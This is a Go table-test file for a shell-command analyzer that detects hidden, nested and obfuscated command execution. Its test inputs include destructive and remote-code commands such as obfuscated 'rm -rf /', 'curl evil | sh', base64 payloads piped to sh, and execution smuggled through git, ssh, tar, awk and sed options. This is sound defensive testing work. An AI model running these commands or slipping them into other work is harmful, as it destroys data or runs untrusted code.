package shell

import (
	"errors"
	"fmt"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"
)

// want is the part of a Command that the table tests compare.
type want struct {
	base     string
	args     []string
	vias     []string
	dynamic  bool
	bare     bool
	codeExec string
}

// cmd builds the expected command with base name base and arguments args.
func cmd(base string, args ...string) want { return want{base: base, args: args} }

// bare builds an expected Bare command.
func bare() want { return want{bare: true} }

func (w want) via(v ...string) want  { w.vias = v; return w }
func (w want) dyn() want             { w.dynamic = true; return w }
func (w want) exec(kind string) want { w.codeExec = kind; return w }

func (w want) String() string {
	s := fmt.Sprintf("%s %q", w.base, w.args)
	if w.bare {
		s = "<bare>"
	}
	if len(w.vias) > 0 {
		s += fmt.Sprintf(" via=%q", w.vias)
	}
	if w.dynamic {
		s += " dynamic"
	}
	if w.codeExec != "" {
		s += " exec=" + w.codeExec
	}
	return s
}

func got(c Command) want {
	return want{base: c.Base, args: c.Args, vias: c.Via, dynamic: c.Dynamic, bare: c.Bare, codeExec: c.CodeExec}
}

func (w want) equal(v want) bool {
	return w.base == v.base && slices.Equal(w.args, v.args) && slices.Equal(w.vias, v.vias) &&
		w.dynamic == v.dynamic && w.bare == v.bare && w.codeExec == v.codeExec
}

// analyzeTests maps shell text to the commands Analyze must report, in
// order. Analysis.Dynamic is expected exactly when a command is dynamic,
// unless the row is listed in alsoDynamic.
var analyzeTests = []struct {
	src  string
	want []want
}{
	// Lists, pipelines and simple structure.
	{"ls", []want{cmd("ls")}},
	{"", nil},
	{"# rm -rf /", nil},
	{"git status && git diff --stat", []want{cmd("git", "status"), cmd("git", "diff", "--stat")}},
	{"make || echo failed; echo done &", []want{cmd("make"), cmd("echo", "failed"), cmd("echo", "done")}},
	{"go test ./... 2>&1 | tail -50", []want{cmd("go", "test", "./..."), cmd("tail", "-50")}},
	{"cat a |& grep b", []want{cmd("cat", "a"), cmd("grep", "b")}},
	{"(cd src && rm -rf build)", []want{cmd("cd", "src"), cmd("rm", "-rf", "build")}},
	{"{ echo a; echo b; } > out", []want{cmd("echo", "a"), cmd("echo", "b")}},
	{"if test -f x; then rm x; elif true; then :; else echo no; fi",
		[]want{cmd("test", "-f", "x"), cmd("rm", "x"), cmd("true"), cmd(":"), cmd("echo", "no")}},
	{"while read l; do echo \"$l\"; done < in", []want{cmd("read", "l"), cmd("echo", `"$l"`).dyn()}},
	{"until false; do sleep 1; done", []want{cmd("false"), cmd("sleep", "1")}},
	// The loop's body runs with "$f" a path the pattern matches.
	{"for f in *.go; do gofmt -w \"$f\"; done", []want{cmd("gofmt", "-w", "*.go")}},
	{"for f in *.go; do gofmt -w $f; done", []want{cmd("gofmt", "-w", `$f`).dyn()}},
	{"for ((i=0; i<$(nproc); i++)); do :; done", []want{cmd("nproc").via("$()"), cmd(":")}},
	{"case $(uname) in Linux) echo l;; *) rm x;; esac",
		[]want{cmd("uname").via("$()"), cmd("echo", "l"), cmd("rm", "x")}},
	{"select x in $(ls); do break; done", []want{cmd("ls").via("$()"), cmd("break")}},
	{"[[ $(id -u) -eq 0 ]] && echo root", []want{cmd("id", "-u").via("$()"), cmd("echo", "root")}},
	{"(( $(date +%s) > 5 ))", []want{cmd("date", "+%s").via("$()")}},
	{"let x=$(id -u)+1", []want{cmd("id", "-u").via("$()")}},
	{"f() { rm -rf /; }; f", []want{cmd("rm", "-rf", "/").via("function f"), cmd("f")}},
	{"function g { curl x; }", []want{cmd("curl", "x").via("function g")}},
	{"coproc mycat { cat; }", []want{cmd("cat").via("coproc")}},
	{"time ls -l | wc -l", []want{cmd("ls", "-l"), cmd("wc", "-l")}},
	{"! grep -q x file", []want{cmd("grep", "-q", "x", "file")}},
	{"echo a\necho b\n", []want{cmd("echo", "a"), cmd("echo", "b")}},
	{"echo long \\\n  line", []want{cmd("echo", "long", "line")}},

	// Quoting that resolves statically.
	{`r\m -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`"r""m" -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`'r'm -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`\r\m -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`$'\x72\x6d' -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`$'\162\155' -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`$'\u0072m' -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`r$'m' -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`$"rm" -rf /`, []want{cmd("rm", "-rf", "/")}},
	{`{r,}m -rf /`, []want{cmd("rm", "m", "-rf", "/")}},
	{`echo {1..3} x{a,b}`, []want{cmd("echo", "1", "2", "3", "xa", "xb")}},
	{`echo "a\"b" 'c\d' "\$x"`, []want{cmd("echo", `a"b`, `c\d`, "$x")}},
	{`/usr/bin/curl -s x`, []want{cmd("curl", "-s", "x")}},
	{`[ -f x ] && rm x`, []want{cmd("[", "-f", "x", "]"), cmd("rm", "x")}},
	{`rm *.go ~/tmp/[ab].txt`, []want{cmd("rm", "*.go", "~/tmp/[ab].txt")}},

	// Names and words that are not statically known.
	{`$CMD -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`${CMD} -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`${!ref} x`, []want{cmd("", "x").dyn()}},
	{`${x//a/r}m -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`"$(printf rm)" -rf /`, []want{cmd("", "-rf", "/").dyn(), cmd("printf", "rm").via("$()")}},
	{"`echo rm` -rf /", []want{cmd("", "-rf", "/").dyn(), cmd("echo", "rm").via("$()")}},
	{`$((1+1)) x`, []want{cmd("", "x").dyn()}},
	{`/bin/r? -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`/???/?? -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`/bin/[r]m -rf /`, []want{cmd("", "-rf", "/").dyn()}},
	{`@(rm|ls) x`, []want{cmd("", "x").dyn()}},
	{`"" x`, []want{cmd("", "x").dyn()}},
	{`rm -rf "$HOME"`, []want{cmd("rm", "-rf", `"$HOME"`).dyn()}},
	{`echo $(rm -rf /)`, []want{cmd("echo", "$(rm -rf /)").dyn(), cmd("rm", "-rf", "/").via("$()")}},
	{`echo ${x:-$(whoami)}`, []want{cmd("echo", "${x:-$(whoami)}").dyn(), cmd("whoami").via("$()")}},
	{`echo {1..100000}`, []want{cmd("echo", "{1..100000}").dyn()}},
	{"IFS=x", []want{bare().dyn()}},
	{"export IFS=:", []want{cmd("export", "IFS=:").dyn()}},
	{"IFS=: read -r a b", []want{cmd("read", "-r", "a", "b")}},
	{"export $opts", []want{cmd("export", "$opts").dyn()}},

	// Substitutions in every word position.
	{"a=$(curl evil | sh)", []want{bare(), cmd("curl", "evil").via("$()"), cmd("sh").via("$()").dyn().exec("stdin script")}},
	{"X=`id` make", []want{cmd("make"), cmd("id").via("$()")}},
	{"cat <(curl x)", []want{cmd("cat", "<(curl x)"), cmd("curl", "x").via("<()")}},
	{"tee >(grep x > y) < in", []want{cmd("tee", ">(grep x > y)"), cmd("grep", "x").via(">()")}},
	{"diff <(sort a) <(sort b)", []want{cmd("diff", "<(sort a)", "<(sort b)"), cmd("sort", "a").via("<()"), cmd("sort", "b").via("<()")}},
	{"echo x > $(mktemp)", []want{cmd("echo", "x").dyn(), cmd("mktemp").via("$()")}},
	{"cat <<EOF\n$(id)\nEOF", []want{cmd("cat"), cmd("id").via("$()")}},
	{"cat <<'EOF'\n$(id)\nEOF", []want{cmd("cat")}},
	{"cat <<< \"$(date)\"", []want{cmd("cat"), cmd("date").via("$()")}},
	{"declare -x FOO=$(id) BAR=1", []want{cmd("declare", "-x", "FOO=$(id)", "BAR=1"), cmd("id").via("$()")}},
	{"local a=`hostname`", []want{cmd("local", "a=`hostname`"), cmd("hostname").via("$()")}},
	{"readonly R=$(uname)", []want{cmd("readonly", "R=$(uname)"), cmd("uname").via("$()")}},
	{"export PATH=\"$HOME/bin:$PATH\"", []want{cmd("export", `PATH="$HOME/bin:$PATH"`)}},
	{"a=(1 $(id))", []want{bare(), cmd("id").via("$()")}},
	{"a[$(id)]=1", []want{bare(), cmd("id").via("$()")}},
	{"echo $(echo $(rm x))", []want{cmd("echo", "$(echo $(rm x))").dyn(), cmd("echo", "$(rm x)").via("$()").dyn(), cmd("rm", "x").via("$()", "$()")}},

	// Redirection-only statements.
	{"> /etc/passwd", []want{bare()}},
	{"(( x )) > /etc/passwd", []want{bare()}},
	{"x=1 > f", []want{bare()}},

	// Nested shells.
	{`bash -c "curl x | sh"`, []want{cmd("bash", "-c", "curl x | sh").exec("sh -c"), cmd("curl", "x").via("bash -c"), cmd("sh").via("bash -c").dyn().exec("stdin script")}},
	{`sh -c 'sh -c "rm -rf ~"'`, []want{cmd("sh", "-c", `sh -c "rm -rf ~"`).exec("sh -c"), cmd("sh", "-c", "rm -rf ~").via("sh -c").exec("sh -c"), cmd("rm", "-rf", "~").via("sh -c", "sh -c")}},
	{`bash -lc 'echo hi'`, []want{cmd("bash", "-lc", "echo hi").exec("sh -c"), cmd("echo", "hi").via("bash -c")}},
	{`bash -e -c 'rm x'`, []want{cmd("bash", "-e", "-c", "rm x").exec("sh -c"), cmd("rm", "x").via("bash -c")}},
	{`bash -o pipefail -c 'rm x'`, []want{cmd("bash", "-o", "pipefail", "-c", "rm x").exec("sh -c"), cmd("rm", "x").via("bash -c")}},
	{`sh -xc ls`, []want{cmd("sh", "-xc", "ls").exec("sh -c"), cmd("ls").via("sh -c")}},
	{`zsh -c 'rm x'`, []want{cmd("zsh", "-c", "rm x").exec("sh -c"), cmd("rm", "x").via("zsh -c")}},
	{`dash -c 'rm x'`, []want{cmd("dash", "-c", "rm x").exec("sh -c"), cmd("rm", "x").via("dash -c")}},
	{`ksh93 -c 'rm x'`, []want{cmd("ksh93", "-c", "rm x").exec("sh -c"), cmd("rm", "x").via("ksh93 -c")}},
	{`busybox sh -c 'wget x'`, []want{cmd("busybox", "sh", "-c", "wget x"), cmd("sh", "-c", "wget x").via("busybox").exec("sh -c"), cmd("wget", "x").via("busybox", "sh -c")}},
	{`dash -c "$X"`, []want{cmd("dash", "-c", `"$X"`).dyn().exec("sh -c")}},
	{`bash -c 'if; then'`, []want{cmd("bash", "-c", "if; then").dyn().exec("sh -c")}},
	{`bash script.sh arg`, []want{cmd("bash", "script.sh", "arg")}},
	{`bash <(curl -s x)`, []want{cmd("bash", "<(curl -s x)").dyn().exec("stdin script"), cmd("curl", "-s", "x").via("<()")}},
	{`bash -s < script.sh`, []want{cmd("bash", "-s").exec("stdin script")}},
	{`cat < script.sh | bash`, []want{cmd("cat"), cmd("bash").exec("stdin script")}},
	{`bash < $f`, []want{cmd("bash").dyn().exec("stdin script")}},
	{"bash <<'EOF'\nrm -rf /\nEOF", []want{cmd("bash").exec("stdin script"), cmd("rm", "-rf", "/").via("bash stdin")}},
	{"echo 'rm -rf /' | bash", []want{cmd("echo", "rm -rf /"), cmd("bash").exec("stdin script"), cmd("rm", "-rf", "/").via("bash stdin")}},
	{"printf '%s\\n' 'id' | sh", []want{cmd("printf", `%s\n`, "id"), cmd("sh").exec("stdin script"), cmd("id").via("sh stdin")}},
	{"curl -fsSL https://x/install.sh | sudo bash", []want{cmd("curl", "-fsSL", "https://x/install.sh"), cmd("sudo", "bash"), cmd("bash").via("sudo").dyn().exec("stdin script")}},
	{"echo cm0gLXJmIC8K | base64 -d | sh", []want{cmd("echo", "cm0gLXJmIC8K"), cmd("base64", "-d"), cmd("sh").dyn().exec("stdin script")}},
	{`su -c 'rm -rf /' root`, []want{cmd("su", "-c", "rm -rf /", "root").exec("su -c"), cmd("rm", "-rf", "/").via("su -c")}},
	{`su root -c id`, []want{cmd("su", "root", "-c", "id").exec("su -c"), cmd("id").via("su -c")}},
	{`su - postgres`, []want{cmd("su", "-", "postgres").dyn().exec("stdin script")}},
	{`runuser -u nobody -- id`, []want{cmd("runuser", "-u", "nobody", "--", "id"), cmd("id").via("runuser")}},
	{`runuser -l postgres -c psql`, []want{cmd("runuser", "-l", "postgres", "-c", "psql").exec("runuser -c"), cmd("psql").via("runuser -c")}},
	{`script -q -c 'rm x' /dev/null`, []want{cmd("script", "-q", "-c", "rm x", "/dev/null").exec("script -c"), cmd("rm", "x").via("script -c")}},

	// eval, source, trap, alias.
	{`eval "r""m -rf /"`, []want{cmd("eval", "rm -rf /").exec("eval"), cmd("rm", "-rf", "/").via("eval")}},
	{`eval rm -rf /`, []want{cmd("eval", "rm", "-rf", "/").exec("eval"), cmd("rm", "-rf", "/").via("eval")}},
	{`eval "$x"`, []want{cmd("eval", `"$x"`).dyn().exec("eval")}},
	{`eval "$(ssh-agent -s)"`, []want{cmd("eval", `"$(ssh-agent -s)"`).dyn().exec("eval"), cmd("ssh-agent", "-s").via("$()")}},
	{`source ~/.bashrc`, []want{cmd("source", "~/.bashrc")}},
	{`. ./env.sh`, []want{cmd(".", "./env.sh")}},
	{`source <(curl -s x)`, []want{cmd("source", "<(curl -s x)").dyn().exec("stdin script"), cmd("curl", "-s", "x").via("<()")}},
	{`. /dev/stdin <<< 'rm x'`, []want{cmd(".", "/dev/stdin").exec("stdin script"), cmd("rm", "x").via(". stdin")}},
	{`trap 'rm -rf /' EXIT`, []want{cmd("trap", "rm -rf /", "EXIT").exec("trap"), cmd("rm", "-rf", "/").via("trap")}},
	{`trap - INT`, []want{cmd("trap", "-", "INT")}},
	{`alias ll='rm -rf /'`, []want{cmd("alias", "ll=rm -rf /").exec("alias"), cmd("rm", "-rf", "/").via("alias ll")}},

	// Wrappers.
	{`sudo -u root env FOO=1 nice -n 5 rm -rf /`, []want{
		cmd("sudo", "-u", "root", "env", "FOO=1", "nice", "-n", "5", "rm", "-rf", "/"),
		cmd("env", "FOO=1", "nice", "-n", "5", "rm", "-rf", "/").via("sudo"),
		cmd("nice", "-n", "5", "rm", "-rf", "/").via("sudo", "env"),
		cmd("rm", "-rf", "/").via("sudo", "env", "nice")}},
	{`sudo --user=root -- rm x`, []want{cmd("sudo", "--user=root", "--", "rm", "x"), cmd("rm", "x").via("sudo")}},
	{`sudo -E FOO=1 rm x`, []want{cmd("sudo", "-E", "FOO=1", "rm", "x"), cmd("rm", "x").via("sudo")}},
	{`sudo -l`, []want{cmd("sudo", "-l")}},
	{`sudo -s`, []want{cmd("sudo", "-s").dyn().exec("stdin script")}},
	{`sudo $CMD`, []want{cmd("sudo", "$CMD").dyn(), cmd("").via("sudo").dyn()}},
	{`doas -u root rm x`, []want{cmd("doas", "-u", "root", "rm", "x"), cmd("rm", "x").via("doas")}},
	{`env -i -u HOME -C /tmp PATH=/bin sh -c ls`, []want{cmd("env", "-i", "-u", "HOME", "-C", "/tmp", "PATH=/bin", "sh", "-c", "ls"), cmd("sh", "-c", "ls").via("env").exec("sh -c"), cmd("ls").via("env", "sh -c")}},
	{`env -S 'rm -rf /tmp/x'`, []want{cmd("env", "-S", "rm -rf /tmp/x"), cmd("rm", "-rf", "/tmp/x").via("env")}},
	{`env -- rm x`, []want{cmd("env", "--", "rm", "x"), cmd("rm", "x").via("env")}},
	{`env`, []want{cmd("env")}},
	{`nice -n 10 -- make`, []want{cmd("nice", "-n", "10", "--", "make"), cmd("make").via("nice")}},
	{`ionice -c 3 nice -n 19 make`, []want{cmd("ionice", "-c", "3", "nice", "-n", "19", "make"), cmd("nice", "-n", "19", "make").via("ionice"), cmd("make").via("ionice", "nice")}},
	{`ionice -p 123`, []want{cmd("ionice", "-p", "123")}},
	{`nohup python3 server.py > out.log 2>&1 &`, []want{cmd("nohup", "python3", "server.py"), cmd("python3", "server.py").via("nohup")}},
	{`timeout -s KILL 10 make test`, []want{cmd("timeout", "-s", "KILL", "10", "make", "test"), cmd("make", "test").via("timeout")}},
	{`timeout 5s`, []want{cmd("timeout", "5s")}},
	{`/usr/bin/time -f %e ls`, []want{cmd("time", "-f", "%e", "ls"), cmd("ls").via("time")}},
	{`stdbuf -oL tail -f log`, []want{cmd("stdbuf", "-oL", "tail", "-f", "log"), cmd("tail", "-f", "log").via("stdbuf")}},
	{`setsid -f firefox`, []want{cmd("setsid", "-f", "firefox"), cmd("firefox").via("setsid")}},
	{`flock /tmp/lock -c 'make install'`, []want{cmd("flock", "/tmp/lock", "-c", "make install").exec("flock -c"), cmd("make", "install").via("flock -c")}},
	{`flock -w 5 /tmp/lock make`, []want{cmd("flock", "-w", "5", "/tmp/lock", "make"), cmd("make").via("flock")}},
	{`chroot /mnt /bin/bash -c 'rm x'`, []want{cmd("chroot", "/mnt", "/bin/bash", "-c", "rm x"), cmd("bash", "-c", "rm x").via("chroot").exec("sh -c"), cmd("rm", "x").via("chroot", "bash -c")}},
	{`unshare -r -n curl x`, []want{cmd("unshare", "-r", "-n", "curl", "x"), cmd("curl", "x").via("unshare")}},
	{`nsenter -t 1 -m -p ps`, []want{cmd("nsenter", "-t", "1", "-m", "-p", "ps"), cmd("ps").via("nsenter")}},
	{`systemd-run --user --unit=x -p CPUQuota=10% make`, []want{cmd("systemd-run", "--user", "--unit=x", "-p", "CPUQuota=10%", "make"), cmd("make").via("systemd-run")}},
	{`caffeinate -i -t 100 make`, []want{cmd("caffeinate", "-i", "-t", "100", "make"), cmd("make").via("caffeinate")}},
	{`strace -f -e trace=open -o out.txt ls`, []want{cmd("strace", "-f", "-e", "trace=open", "-o", "out.txt", "ls"), cmd("ls").via("strace")}},
	{`ltrace -p 123`, []want{cmd("ltrace", "-p", "123")}},
	{`command -v rm`, []want{cmd("command", "-v", "rm")}},
	{`command -p rm x`, []want{cmd("command", "-p", "rm", "x"), cmd("rm", "x").via("command")}},
	{`builtin eval 'rm x'`, []want{cmd("builtin", "eval", "rm x"), cmd("eval", "rm x").via("builtin").exec("eval"), cmd("rm", "x").via("builtin", "eval")}},
	{`exec -a foo rm -rf /`, []want{cmd("exec", "-a", "foo", "rm", "-rf", "/"), cmd("rm", "-rf", "/").via("exec")}},
	{`exec > /tmp/log 2>&1`, []want{cmd("exec")}},
	{`busybox rm -rf /`, []want{cmd("busybox", "rm", "-rf", "/"), cmd("rm", "-rf", "/").via("busybox")}},
	{`watch -n 1 'ps aux | grep x'`, []want{cmd("watch", "-n", "1", "ps aux | grep x").exec("watch"), cmd("ps", "aux").via("watch"), cmd("grep", "x").via("watch")}},
	{`watch -x ls -l`, []want{cmd("watch", "-x", "ls", "-l"), cmd("ls", "-l").via("watch")}},

	// xargs, find, fd, parallel.
	{`xargs -I{} rm {}`, []want{cmd("xargs", "-I{}", "rm", "{}"), cmd("rm", "{}").via("xargs")}},
	{`find . -name '*.tmp' | xargs -0 -n 1 -P 4 rm -f`, []want{cmd("find", ".", "-name", "*.tmp"), cmd("xargs", "-0", "-n", "1", "-P", "4", "rm", "-f"), cmd("rm", "-f").via("xargs")}},
	{`xargs`, []want{cmd("xargs"), cmd("echo").via("xargs")}},
	{`xargs -I{} sh -c 'echo {}'`, []want{cmd("xargs", "-I{}", "sh", "-c", "echo {}"), cmd("sh", "-c", "echo {}").via("xargs").dyn().exec("sh -c"), cmd("echo", "{}").via("xargs", "sh -c")}},
	{`xargs sh -c`, []want{cmd("xargs", "sh", "-c"), cmd("sh", "-c").via("xargs").dyn()}},
	{`xargs -I % % --version`, []want{cmd("xargs", "-I", "%", "%", "--version"), cmd("", "--version").via("xargs").dyn()}},
	{`find / -name x -exec rm -rf {} +`, []want{cmd("find", "/", "-name", "x", "-exec", "rm", "-rf", "{}", "+"), cmd("rm", "-rf", "{}").via("find -exec")}},
	{`find . -name '*.py' -exec wc -l {} + -o -execdir rm {} \;`, []want{
		cmd("find", ".", "-name", "*.py", "-exec", "wc", "-l", "{}", "+", "-o", "-execdir", "rm", "{}", ";"),
		cmd("wc", "-l", "{}").via("find -exec"), cmd("rm", "{}").via("find -execdir")}},
	{`find . -ok rm {} ';' -okdir sh -c 'echo {}' \;`, []want{
		cmd("find", ".", "-ok", "rm", "{}", ";", "-okdir", "sh", "-c", "echo {}", ";"),
		cmd("rm", "{}").via("find -ok"), cmd("sh", "-c", "echo {}").via("find -okdir").dyn().exec("sh -c"), cmd("echo", "{}").via("find -okdir", "sh -c")}},
	{`find . -exec {} \;`, []want{cmd("find", ".", "-exec", "{}", ";"), cmd("").via("find -exec").dyn()}},
	{`fd -e py -x black {}`, []want{cmd("fd", "-e", "py", "-x", "black", "{}"), cmd("black", "{}").via("fd -x")}},
	{`parallel gzip ::: a b`, []want{cmd("parallel", "gzip", ":::", "a", "b").exec("parallel"), cmd("gzip").via("parallel")}},
	{`parallel ::: 'rm a' 'ls b'`, []want{cmd("parallel", ":::", "rm a", "ls b").exec("parallel"), cmd("rm", "a").via("parallel"), cmd("ls", "b").via("parallel")}},
	{`parallel -j4`, []want{cmd("parallel", "-j4").dyn()}},

	// Interpreters with inline code.
	{`python3 -c 'import os; os.system("id")'`, []want{cmd("python3", "-c", `import os; os.system("id")`).exec("python -c")}},
	{`python -Bc 'print(1)'`, []want{cmd("python", "-Bc", "print(1)").exec("python -c")}},
	{`python3 -m http.server`, []want{cmd("python3", "-m", "http.server")}},
	{`python3 manage.py test`, []want{cmd("python3", "manage.py", "test")}},
	{"python3 - <<EOF\nimport os\nEOF", []want{cmd("python3", "-").exec("stdin script")}},
	{`curl x | python3`, []want{cmd("curl", "x"), cmd("python3").dyn().exec("stdin script")}},
	{`perl -e 'system("rm")'`, []want{cmd("perl", "-e", `system("rm")`).exec("perl -e")}},
	{`perl -lne 'print' file`, []want{cmd("perl", "-lne", "print", "file").exec("perl -e")}},
	{`perl -pi.bak -e 's/a/b/' f`, []want{cmd("perl", "-pi.bak", "-e", "s/a/b/", "f").exec("perl -e")}},
	{`perl script.pl`, []want{cmd("perl", "script.pl")}},
	{`node -e 'require("child_process")'`, []want{cmd("node", "-e", `require("child_process")`).exec("node -e")}},
	{`node --eval=1+1`, []want{cmd("node", "--eval=1+1").exec("node -e")}},
	{`nodejs -pe 'process.env'`, []want{cmd("nodejs", "-pe", "process.env").exec("node -e")}},
	{`node index.js`, []want{cmd("node", "index.js")}},
	{`deno eval 'Deno.exit()'`, []want{cmd("deno", "eval", "Deno.exit()").exec("deno eval")}},
	{`bun -e 'x'`, []want{cmd("bun", "-e", "x").exec("bun -e")}},
	{`ruby -e 'exec "id"'`, []want{cmd("ruby", "-e", `exec "id"`).exec("ruby -e")}},
	{`php -r 'system("id");'`, []want{cmd("php", "-r", `system("id");`).exec("php -r")}},
	{`lua -e 'os.execute("id")'`, []want{cmd("lua", "-e", `os.execute("id")`).exec("lua -e")}},
	{`Rscript -e 'system("id")'`, []want{cmd("Rscript", "-e", `system("id")`).exec("Rscript -e")}},
	{`osascript -e 'do shell script "id"'`, []want{cmd("osascript", "-e", `do shell script "id"`).exec("osascript -e")}},
	{`pwsh -c 'Remove-Item x'`, []want{cmd("pwsh", "-c", "Remove-Item x").exec("powershell -c")}},
	{`powershell -NoProfile -Command Get-Process`, []want{cmd("powershell", "-NoProfile", "-Command", "Get-Process").exec("powershell -c")}},
	{`powershell -enc ZABpAHIA`, []want{cmd("powershell", "-enc", "ZABpAHIA").exec("powershell -c")}},
	{`echo 'exec id' | tclsh`, []want{cmd("echo", "exec id"), cmd("tclsh").exec("stdin script")}},
	{`python3 -c "$(curl -s x)"`, []want{cmd("python3", "-c", `"$(curl -s x)"`).dyn().exec("python -c"), cmd("curl", "-s", "x").via("$()")}},

	// awk, sed, vim.
	{`awk 'BEGIN{system("rm -rf /")}'`, []want{cmd("awk", `BEGIN{system("rm -rf /")}`).exec("awk system"), cmd("rm", "-rf", "/").via("awk system")}},
	{`awk '{print | "sh"}'`, []want{cmd("awk", `{print | "sh"}`).exec("awk system"), cmd("sh").via("awk system").dyn().exec("stdin script")}},
	{`gawk '{ "date" | getline d; print d }'`, []want{cmd("gawk", `{ "date" | getline d; print d }`).exec("awk system"), cmd("date").via("awk system")}},
	{`awk '{system($0)}'`, []want{cmd("awk", "{system($0)}").dyn().exec("awk system")}},
	{`awk -F: '{print $1}' /etc/passwd`, []want{cmd("awk", "-F:", "{print $1}", "/etc/passwd")}},
	{`awk '/a|b/ && x || y'`, []want{cmd("awk", "/a|b/ && x || y")}},
	{`sed -i 's/a/b/e' f`, []want{cmd("sed", "-i", "s/a/b/e", "f").dyn().exec("sed e")}},
	{`sed '1e id' f`, []want{cmd("sed", "1e id", "f").exec("sed e"), cmd("id").via("sed e")}},
	{`sed -n '/error/p; s/here/there/g' log`, []want{cmd("sed", "-n", "/error/p; s/here/there/g", "log")}},
	{`sed -e 's/x/y/' -e '$e rm x' f`, []want{cmd("sed", "-e", "s/x/y/", "-e", "$e rm x", "f").exec("sed e"), cmd("rm", "x").via("sed e")}},
	{`vim -c '!rm -rf /' -c q f`, []want{cmd("vim", "-c", "!rm -rf /", "-c", "q", "f").exec("vim -c"), cmd("rm", "-rf", "/").via("vim -c")}},
	{`vim +42 f`, []want{cmd("vim", "+42", "f")}},

	// Tools whose options run commands.
	{`git -c core.sshCommand='sh -c id' fetch`, []want{cmd("git", "-c", "core.sshCommand=sh -c id", "fetch").exec("git -c core.sshCommand"), cmd("sh", "-c", "id").via("git -c core.sshCommand").exec("sh -c"), cmd("id").via("git -c core.sshCommand", "sh -c")}},
	{`git -c alias.x='!rm -rf /' x`, []want{cmd("git", "-c", "alias.x=!rm -rf /", "x").exec("git -c alias.x"), cmd("rm", "-rf", "/").via("git -c alias.x")}},
	{`git -c core.hooksPath=/tmp/h commit -m x`, []want{cmd("git", "-c", "core.hooksPath=/tmp/h", "commit", "-m", "x").exec("git -c core.hooksPath")}},
	{`git -c user.name=x commit`, []want{cmd("git", "-c", "user.name=x", "commit")}},
	{`git -c protocol.ext.allow=always clone 'ext::sh -c id' d`, []want{cmd("git", "-c", "protocol.ext.allow=always", "clone", "ext::sh -c id", "d").exec("git -c protocol.ext.allow")}},
	{`git config --global core.pager 'less; id'`, []want{cmd("git", "config", "--global", "core.pager", "less; id").exec("git config core.pager"), cmd("less").via("git config core.pager"), cmd("id").via("git config core.pager")}},
	{`git rebase -i --exec 'make test' main`, []want{cmd("git", "rebase", "-i", "--exec", "make test", "main").exec("git rebase --exec"), cmd("make", "test").via("git rebase --exec")}},
	{`git submodule foreach --recursive 'git pull'`, []want{cmd("git", "submodule", "foreach", "--recursive", "git pull").exec("git submodule foreach"), cmd("git", "pull").via("git submodule foreach")}},
	{`git bisect run make test`, []want{cmd("git", "bisect", "run", "make", "test"), cmd("make", "test").via("git bisect run")}},
	{`ssh -oProxyCommand='nc %h %p' host`, []want{cmd("ssh", "-oProxyCommand=nc %h %p", "host").exec("ssh ProxyCommand"), cmd("nc", "%h", "%p").via("ssh ProxyCommand")}},
	{`ssh -o 'ProxyCommand sh -c id' host`, []want{cmd("ssh", "-o", "ProxyCommand sh -c id", "host").exec("ssh ProxyCommand"), cmd("sh", "-c", "id").via("ssh ProxyCommand").exec("sh -c"), cmd("id").via("ssh ProxyCommand", "sh -c")}},
	{`ssh -p 22 user@host 'rm -rf /tmp/x'`, []want{cmd("ssh", "-p", "22", "user@host", "rm -rf /tmp/x").exec("ssh remote"), cmd("rm", "-rf", "/tmp/x").via("ssh remote")}},
	{`ssh host -t ls -la`, []want{cmd("ssh", "host", "-t", "ls", "-la").exec("ssh remote"), cmd("ls", "-la").via("ssh remote")}},
	{`scp -o ProxyCommand='sh -c id' a h:b`, []want{cmd("scp", "-o", "ProxyCommand=sh -c id", "a", "h:b").exec("ssh ProxyCommand"), cmd("sh", "-c", "id").via("ssh ProxyCommand").exec("sh -c"), cmd("id").via("ssh ProxyCommand", "sh -c")}},
	{`tar -cf x --to-command='sh -c id' .`, []want{cmd("tar", "-cf", "x", "--to-command=sh -c id", ".").exec("tar --to-command"), cmd("sh", "-c", "id").via("tar --to-command").exec("sh -c"), cmd("id").via("tar --to-command", "sh -c")}},
	{`tar -I 'sh -c id' -xf a.tar`, []want{cmd("tar", "-I", "sh -c id", "-xf", "a.tar").exec("tar --use-compress-program"), cmd("sh", "-c", "id").via("tar --use-compress-program").exec("sh -c"), cmd("id").via("tar --use-compress-program", "sh -c")}},
	{`tar xf a.tar --checkpoint=1 --checkpoint-action=exec=id`, []want{cmd("tar", "xf", "a.tar", "--checkpoint=1", "--checkpoint-action=exec=id").exec("tar --checkpoint-action"), cmd("id").via("tar --checkpoint-action")}},
	{`tar --use-compress-prog=zstd -cf a.tar.zst d`, []want{cmd("tar", "--use-compress-prog=zstd", "-cf", "a.tar.zst", "d").exec("tar --use-compress-program"), cmd("zstd").via("tar --use-compress-program")}},
	{`tar czf out.tgz src`, []want{cmd("tar", "czf", "out.tgz", "src")}},
	// Build and debugging tools that run what their options say.
	{`gdb -batch -ex 'shell id' ./a.out`, []want{cmd("gdb", "-batch", "-ex", "shell id", "./a.out").exec("gdb -ex")}},
	{`gdb --eval-command=run ./a.out`, []want{cmd("gdb", "--eval-command=run", "./a.out").exec("gdb -ex")}},
	{`gdb -x /dev/stdin ./a.out`, []want{cmd("gdb", "-x", "/dev/stdin", "./a.out").exec("gdb -ex")}},
	{`gdb -x debug.gdb ./a.out`, []want{cmd("gdb", "-x", "debug.gdb", "./a.out")}},
	{`gdb --args ./a.out -ex x`, []want{cmd("gdb", "--args", "./a.out", "-ex", "x")}},
	{`lldb -o 'platform shell id' ./a`, []want{cmd("lldb", "-o", "platform shell id", "./a").exec("lldb -o")}},
	{`lldb --one-line-on-crash bt ./a`, []want{cmd("lldb", "--one-line-on-crash", "bt", "./a").exec("lldb -o")}},
	{`make --eval='x: ; id' x`, []want{cmd("make", "--eval=x: ; id", "x").exec("make --eval")}},
	{`make -f - all`, []want{cmd("make", "-f", "-", "all").exec("make --eval")}},
